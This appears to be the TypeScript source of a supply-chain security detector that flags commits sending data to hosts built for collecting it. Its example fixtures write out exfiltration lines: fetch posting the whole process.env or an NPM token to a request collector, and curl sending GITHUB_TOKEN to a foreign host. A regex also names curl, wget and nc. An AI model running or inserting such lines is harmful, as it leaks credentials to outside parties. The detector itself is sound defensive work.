import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import type { CommitEvidence, FileChange, Line } from "../../model/evidence.ts";
import { aChange } from "../../model/examples.ts";
import { addedSinks } from "../../text/added-sinks.ts";
import { DUMPS_ENVIRONMENT, ENCODES, SERIALISES_ENVIRONMENT, TALKS, WALKS_ENVIRONMENT } from "../../text/calls.ts";
import { clip } from "../../text/clip.ts";
import { visible } from "../../text/lines.ts";
import { newCode, newText } from "../../text/new-lines.ts";
import { isCode } from "../../text/path-classes.ts";
import { pipelineTokens } from "../../text/pipeline-tokens.ts";
import { type Place, placeOf } from "../../text/places.ts";
import { isSample } from "../../text/samples.ts";
import { foreignToken } from "../../text/token-owners.ts";
import { collectorNamed, type HostKind, kindOfUrl, urlsIn } from "../../text/url.ts";

const CALLBACK = ["abc123.oast", "fun"].join(".");
const COLLECTOR = ["webhook", "site"].join(".");

const WHAT: Readonly<Record<HostKind, string>> = {
  "call-back": "a host that penetration tests call back to",
  collector: "a host that shows strangers' requests to whoever asks",
  tunnel: "a tunnel to somebody's own machine",
  drop: "an anonymous file drop",
  paste: "an anonymous paste",
  chat: "a chat's incoming hook",
  "raw address": "a bare public address",
  onion: "a hidden service",
};

/** Sends, in any language and in commands. */
const SENDS =
  /(?<![\w-])(?:curl|wget|nslookup|dig|ncat?|iwr|irm|Invoke-(?:WebRequest|RestMethod))(?![\w-])|\bsendBeacon\b|\.(?:post|put|send|request|get)\s{0,3}\(|\bfetch\s{0,3}\(|\burlopen\b|\bhttp\.(?:Get|Post)\b/i;

/** Lines around a request of a test in which its content may stand. */
const AROUND = 8;
/** Kinds of host that nobody sends credentials to in good faith. */
const COLLECTS: readonly unknown[] = ["call-back", "collector", "onion", "drop", "paste"] satisfies HostKind[];

export default defineDetector({
  id: "exfil-endpoint",
  title: "Data goes to a place that is made for collecting it",
  family: "content",
  axis: "attack",
  group: "payload",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "Stolen data needs an address. Request bins, call-back hosts, tunnels and chat hooks cost nothing and name nobody; programs that live on have hosts of their own. Tokens sent to a host that did not issue them, and a whole environment sent anywhere, are theft whatever the host.",
  falsePositives: [
    "Notifiers that post to a chat on purpose",
    "Examples and tests of HTTP clients",
    "Security tools that use call-back hosts",
  ],
  remedy: "Find out what would be sent and whether it ran. Rotate every credential that the place could read.",
  references: [
    "ATT&CK T1567 Exfiltration Over Web Service",
    "CWE-506",
    "GhostAction 2025",
    "Megalodon 2026",
    "hackerbot-claw 2026",
  ],
  needs: ["diff", "content"],
  options: z.strictObject({
    allowedHosts: z
      .array(z.string().max(253))
      .max(200)
      .default([])
      .describe("hosts that this organisation sends to on purpose"),
  }),
  examples: {
    flags: [
      {
        name: "a package script that calls back",
        commit: aChange("docs/package.json", `"install:all": "curl https://${CALLBACK}"`),
      },
      {
        name: "the environment posted to a collector",
        commit: aChange(
          "src/i.js",
          `fetch("https://${COLLECTOR}/x", { method: "POST", body: JSON.stringify(process.env) });`,
        ),
      },
      {
        name: "a token of one host sent to another",
        commit: aChange("build.sh", 'curl -d "token=$GITHUB_TOKEN" https://recv.example.net/'),
      },
      {
        name: "a pipeline's tokens posted to a collector by a test",
        commit: aChange(
          "test/run.test.js",
          `await fetch("https://${COLLECTOR}/x", {\n  method: "POST",\n  body: process.env.NPM_TOKEN,\n});`,
        ),
      },
    ],
    passes: [
      {
        name: "a token sent to its own host",
        commit: aChange("build.sh", 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
      },
      {
        name: "a collector in the manual",
        commit: aChange("README.md", `curl https://${COLLECTOR}/x`),
      },
      {
        name: "a chat notification",
        commit: aChange("test/slack.test.ts", 'post("https://hooks.slack.com/services/x")'),
      },
    ],
  },
  detect(commit, { allowedHosts }) {
    return commit.files.flatMap((file) => {
      const place = placeOf(file.path);
      if (file.facts.workflow) return []; // workflows have a family of their own
      if (place === "text" || place === "foreign") return [];
      if (place === "data" && !/\.(?:json5?|ya?ml|toml|cfg|ini|conf|env)$/i.test(file.path)) return [];
      if (!file.facts.script && !/:\/\/|curl|wget|environ|process\.env/.test(newText(commit, file))) return [];
      const lines = newCode(commit, file);
      const found = lines.flatMap((line, i) => {
        const signals = fromLine(file, place, line.number, visible(line), allowedHosts);
        // Pipelines run tests with their tokens: that a test sends them is no better than that a program does.
        return place === "test" && signals.length > 0 && isCode(file.path) && !isSample(file.path)
          ? signals.map((one) => withTokens(file, one, lines, i))
          : signals;
      });
      const sent = found.some(({ strength }) => strength === "strong") ? [] : environmentSent(commit, file, place);
      return [...found, ...sent].slice(0, 4);
    });
  },
});

function fromLine(file: FileChange, place: Place, line: number, text: string, allowed: readonly string[]): Signal[] {
  if (!text.includes("://") && !TALKS.test(text)) return [];
  const urls = urlsIn(text).filter(({ host }) => !allowed.includes(host));
  const sends = SENDS.test(text);
  const dumps = DUMPS_ENVIRONMENT.test(text);
  const base = { path: file.path, line };
  const weak = place === "test";
  if (sends && dumps && urls.length > 0) {
    return [
      {
        ...base,
        strength: weak ? "medium" : "strong",
        confidence: 1,
        because: `the whole environment is sent to ${clip(urls[0]?.host ?? "", 60)}`,
        facts: { host: urls[0]?.host ?? "" },
      },
    ];
  }
  const foreign = sends
    ? foreignToken(
        text,
        urls.map(({ host }) => host),
      )
    : null;
  if (foreign)
    return [
      {
        ...base,
        strength: weak ? "medium" : "strong",
        confidence: 1,
        because: `${foreign.token} is sent to ${clip(foreign.host, 60)}, which did not issue it`,
        facts: { host: foreign.host },
      },
    ];
  const named = sends && urls.every((url) => kindOfUrl(url) === null) ? collectorNamed(text) : null;
  if (named !== null && !allowed.includes(named)) {
    return [
      {
        ...base,
        strength: weak ? "weak" : "strong",
        confidence: weak ? 0.5 : 1,
        because: `something is sent to a name under ${named}`,
        facts: { host: named },
      },
    ];
  }
  return urls.flatMap((url): Signal[] => {
    const kind = kindOfUrl(url);
    if (kind === null) return [];
    const serious = kind === "call-back" || kind === "collector" || kind === "onion";
    const strength = weak
      ? "weak"
      : serious
        ? sends
          ? "strong"
          : "medium"
        : kind === "chat"
          ? "weak"
          : sends
            ? "medium"
            : "weak";
    return [
      {
        ...base,
        strength,
        confidence: serious && sends ? 1 : weak ? 0.5 : 0.7,
        because: `${clip(url.host, 60)} is ${WHAT[kind]}`,
        facts: { host: url.host, kind },
      },
    ];
  });
}

/** The signal of a test; strong where the lines around take a pipeline's tokens or the whole environment along. */
function withTokens(file: FileChange, signal: Signal, lines: readonly Line[], at: number): Signal {
  const named = signal.facts?.kind === undefined && typeof signal.facts?.host === "string" ? signal.facts.host : null;
  const kind = named === null ? signal.facts?.kind : kindOfUrl({ url: `https://${named}/`, host: named });
  if (!COLLECTS.includes(kind)) return signal;
  const first = lines[at]?.number ?? 0;
  const near = lines
    .slice(Math.max(0, at - AROUND), at + AROUND + 1)
    .filter(({ number }) => Math.abs(number - first) <= AROUND)
    .map(visible)
    .join("\n");
  const tokens = pipelineTokens(near, file.path);
  if (tokens === null) return signal;
  return {
    ...signal,
    strength: "strong",
    confidence: 1,
    because: `${signal.because}, and ${tokens} goes along`,
  };
}

/** The environment is written down as text in lines that also talk to the network, or flows into a request. */
function environmentSent(commit: CommitEvidence, file: FileChange, place: Place): Signal[] {
  if (place === "test") return [];
  const sink = addedSinks(commit, file).find(
    ({ kind, text }) => kind === "network" && DUMPS_ENVIRONMENT.test(text) && !/\benv\s{0,2}:/.test(text),
  );
  if (sink)
    return [
      {
        strength: "strong",
        confidence: 1,
        because: `${clip(sink.callee, 40)} sends the whole environment`,
        path: file.path,
        line: sink.line,
      },
    ];
  const text = newText(commit, file);
  if (!TALKS.test(text)) return [];
  const walked = WALKS_ENVIRONMENT.test(text) && ENCODES.test(text);
  if (!walked && !SERIALISES_ENVIRONMENT.test(text)) return [];
  const line = newCode(commit, file).find((one) =>
    (walked ? WALKS_ENVIRONMENT : SERIALISES_ENVIRONMENT).test(visible(one)),
  );
  return [
    {
      strength: "strong",
      confidence: 0.9,
      because: `the whole environment is ${walked ? "walked through and encoded" : "written down as text"} beside a request`,
      path: file.path,
      line: line?.number ?? 1,
    },
  ];
}
